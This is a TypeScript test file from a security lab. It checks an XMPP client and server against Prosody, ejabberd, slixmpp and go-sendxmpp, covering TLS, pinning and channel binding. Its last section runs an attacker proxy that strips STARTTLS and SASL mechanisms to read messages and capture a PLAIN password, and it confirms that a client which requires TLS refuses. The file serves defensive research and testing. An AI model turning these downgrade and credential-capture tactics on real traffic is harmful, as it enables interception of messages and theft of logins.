import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { spkiPin } from "../lab/core/tls.js";
import { generatePki, type LabPki, writePki } from "../lab/pki.js";
import { createClient } from "../victim-client/index.js";
import { BIN, jsonl, labNode, proc, SLIX, tmpdir } from "./helpers.js";
import { type Ejabberd, startEjabberd } from "./ejabberd.js";
import { type Prosody, startProsody } from "./prosody.js";

/**
 * The lab against real XMPP software from Debian's packages: Prosody 0.12 (server),
 * slixmpp 1.8 (an opportunistic client library) and go-sendxmpp (a client that requires TLS).
 */
const USERS = { alice: "alice-interop-pw", bob: "bob-interop-pw" };
let pki: LabPki;
let pkiDir: string;

beforeAll(async () => {
  pki = await generatePki();
  pkiDir = tmpdir("lab-interop-pki-");
  writePki(pki, pkiDir);
});

const loopback = (port: number) => ({ host: "127.0.0.1", port });

describe("the lab client against Prosody", () => {
  let prosody: Prosody;
  beforeAll(async () => {
    prosody = await startProsody(pki, { requireEncryption: true, users: USERS });
  });
  afterAll(() => prosody.stop());

  async function chat(alice: Parameters<typeof createClient>[0]) {
    const bob = await createClient({ jid: "bob@lab.example", password: USERS.bob, connect: loopback(prosody.c2s), tls: "required", verify: { mode: "ca", ca: [pki.ca.cert] } }).start();
    const a = await createClient(alice).start();
    a.send("bob@lab.example", "hello from the lab client");
    const got = await bob.waitForMessages(1);
    await a.close();
    await bob.close();
    return got;
  }

  it("logs in over STARTTLS (required, CA-verified) and another session receives the message", async () => {
    const got = await chat({ jid: "alice@lab.example", password: USERS.alice, connect: loopback(prosody.c2s), tls: "required", verify: { mode: "ca", ca: [pki.ca.cert] } });
    expect(got).toMatchObject([{ body: "hello from the lab client" }]);
  });

  it("logs in over direct TLS with an SPKI pin", async () => {
    const got = await chat({ jid: "alice@lab.example", password: USERS.alice, connect: loopback(prosody.direct), tls: "direct", verify: { mode: "pin", pins: [spkiPin(pki.server.cert)] } });
    expect(got).toMatchObject([{ body: "hello from the lab client" }]);
  });

  it("refuses Prosody's real certificate when pinned to another key", async () => {
    const err = await createClient({
      jid: "alice@lab.example", password: USERS.alice, connect: loopback(prosody.direct), tls: "direct",
      verify: { mode: "pin", pins: [spkiPin(pki.rogue.cert)] },
    }).start().catch((e) => e);
    expect(err).toMatchObject({ code: "PIN_MISMATCH" });
  });
});

describe("the lab client's channel binding against ejabberd 23.01 (no XEP-0440 list)", () => {
  let ej: Ejabberd;
  beforeAll(async () => {
    ej = await startEjabberd(pki, USERS);
  });
  afterAll(() => ej.stop());
  const login = (port: number) =>
    proc(process.execPath, [BIN, "client", "--connect", `127.0.0.1:${port}`, "--jid", "alice@lab.example", "--password", USERS.alice, "--tls", "required", "--ca", path.join(pkiDir, "ca.pem"), "--channel-binding"]);

  it("on TLS 1.2 binds with tls-unique (RFC 5929 §3.1) and logs in with SCRAM-SHA-1-PLUS", async () => {
    const c = login(ej.requiredTls12);
    expect(await c.exit, c.err()).toBe(0);
    expect(c.err()).toMatch(/binds the login to this TLS session with tls-unique: the server announced no types \(no XEP-0440\)/);
    const accepted = /Accepted c2s SCRAM-SHA-1-PLUS authentication for alice@lab\.example/;
    for (let i = 0; i < 30 && !accepted.test(ej.log()); i++) await new Promise((r) => setTimeout(r, 100)); // the log is written async
    expect(ej.log()).toMatch(accepted);
  });

  it("on TLS 1.3 ejabberd refuses tls-exporter, and alice says it is a refused binding type, not an attacker", async () => {
    const c = login(ej.required);
    expect(await c.exit).toBe(1);
    expect(c.err()).toMatch(/binds the login to this TLS session with tls-exporter/);
    expect(c.err()).toMatch(/refused: CHANNEL_BINDING_REFUSED: The server does not accept tls-exporter/);
    expect(c.err()).not.toMatch(/man in the middle/);
  });
});

describe("a real client (slixmpp) against the lab server", () => {
  it.each([["starttls", "STARTTLS"], ["direct", "direct TLS"]])("logs in over %s and delivers a message", async (mode) => {
    const server = await labNode(["server", "--listen", "127.0.0.1:0", "--direct-tls", "127.0.0.1:0", "--tls", "starttls-required", "--user", `alice:${USERS.alice}`, "--user", `bob:${USERS.bob}`, "--pki", pkiDir]);
    const direct = Number(/direct TLS on port (\d+)/.exec(server.out())![1]);
    try {
      const bob = proc(process.execPath, [BIN, "client", "--connect", `127.0.0.1:${server.port}`, "--jid", "bob@lab.example", "--password", USERS.bob, "--ca", path.join(pkiDir, "ca.pem"), "--receive", "1", "--timeout", "15000"]);
      await new Promise((r) => setTimeout(r, 300)); // bob logs in first; a message to an offline bob waits anyway
      const port = mode === "direct" ? direct : server.port;
      const alice = proc("/usr/bin/python3", [SLIX, "alice@lab.example", USERS.alice, "127.0.0.1", String(port), mode, path.join(pkiDir, "ca.pem"), "--send", `bob@lab.example:hello from slixmpp over ${mode}`]);
      expect(await alice.exit, alice.out() + alice.err()).toBe(0);
      expect(alice.out()).toContain("LOGGED-IN");
      expect(await bob.exit, bob.err()).toBe(0);
      expect(bob.out()).toContain(`hello from slixmpp over ${mode}`);
    } finally {
      await server.stop();
    }
  });
});

describe("go-sendxmpp without an attacker (the control)", () => {
  it("sends to Prosody over STARTTLS, verifying the lab CA", async () => {
    const prosody = await startProsody(pki, { requireEncryption: true, users: USERS });
    try {
      const c = proc("go-sendxmpp", ["-u", "alice@lab.example", "-p", USERS.alice, "-j", `127.0.0.1:${prosody.c2s}`, "bob@lab.example"], { stdin: "hello\n", env: { SSL_CERT_FILE: path.join(pkiDir, "ca.pem") } });
      expect(await c.exit, c.out() + c.err()).toBe(0);
    } finally {
      await prosody.stop();
    }
  });
});

describe("the standalone attacker between real software", () => {
  async function attack(requireEncryption: boolean, tactics: string, client: (port: number) => ReturnType<typeof proc>) {
    const prosody = await startProsody(pki, { requireEncryption, users: USERS });
    const log = path.join(tmpdir("lab-mallory-"), "mallory.jsonl");
    const mallory = await labNode(["attacker", "--listen", "127.0.0.1:0", "--upstream", `127.0.0.1:${prosody.c2s}`, "--tactic", tactics, "--jsonl", log]);
    try {
      const c = client(mallory.port);
      const code = await c.exit;
      await new Promise((r) => setTimeout(r, 100));
      return { code, out: c.out() + c.err(), events: jsonl(log) };
    } finally {
      await mallory.stop();
      await prosody.stop();
    }
  }
  const slix = (port: number) =>
    proc("/usr/bin/python3", [SLIX, "alice@lab.example", USERS.alice, "127.0.0.1", String(port), "starttls", path.join(pkiDir, "ca.pem"), "--send", "bob@lab.example:wire 100 EUR to DE89 3704 0044 0532 0130 00"]);

  it("strips STARTTLS between slixmpp and a Prosody that allows cleartext: the message is read and the SCRAM exchange recorded", async () => {
    const r = await attack(false, "strip-starttls,loot", slix);
    expect(r.code, r.out).toBe(0); // slixmpp 1.8 carries on in cleartext (force_starttls is never read)
    const loot = r.events.filter((e) => e.kind === "loot").map((e) => e.loot);
    expect(loot).toContainEqual(expect.objectContaining({ type: "message-read", body: "wire 100 EUR to DE89 3704 0044 0532 0130 00" }));
    expect(loot).toContainEqual(expect.objectContaining({ type: "scram", username: "alice" }));
  });

  it("against a Prosody that requires TLS, mallory does STARTTLS upstream and slixmpp still talks in cleartext", async () => {
    const r = await attack(true, "strip-starttls,loot", slix);
    expect(r.code, r.out).toBe(0);
    expect(r.events.some((e) => e.kind === "move" && e.move.type === "upstream-starttls" && e.move.because === "server-requires-tls")).toBe(true);
    expect(r.events.filter((e) => e.kind === "loot").map((e) => e.loot)).toContainEqual(expect.objectContaining({ type: "message-read" }));
  });

  it("with PLAIN allowed in the clear (the vulnerable twin), the downgrade yields slixmpp's password", async () => {
    const r = await attack(false, "strip-starttls,strip-mechanisms,loot", (port) =>
      proc("/usr/bin/python3", [SLIX, "alice@lab.example", USERS.alice, "127.0.0.1", String(port), "starttls", path.join(pkiDir, "ca.pem"), "--plain"]));
    expect(r.code, r.out).toBe(0);
    expect(r.events.filter((e) => e.kind === "loot").map((e) => e.loot)).toContainEqual({ type: "credential", mechanism: "PLAIN", username: "alice", password: USERS.alice });
  });

  it("a client that requires TLS (go-sendxmpp) refuses, and mallory learns nothing", async () => {
    const r = await attack(false, "strip-starttls,loot", (port) =>
      proc("go-sendxmpp", ["-u", "alice@lab.example", "-p", USERS.alice, "-j", `127.0.0.1:${port}`, "bob@lab.example"], { stdin: "secret message\n", env: { SSL_CERT_FILE: path.join(pkiDir, "ca.pem") } }));
    expect(r.code, r.out).not.toBe(0);
    expect(r.out).toContain("refusing to authenticate over unencrypted TCP connection");
    expect(r.events.filter((e) => e.kind === "loot")).toEqual([]);
    expect(JSON.stringify(r.events)).not.toContain(USERS.alice);
  });
});
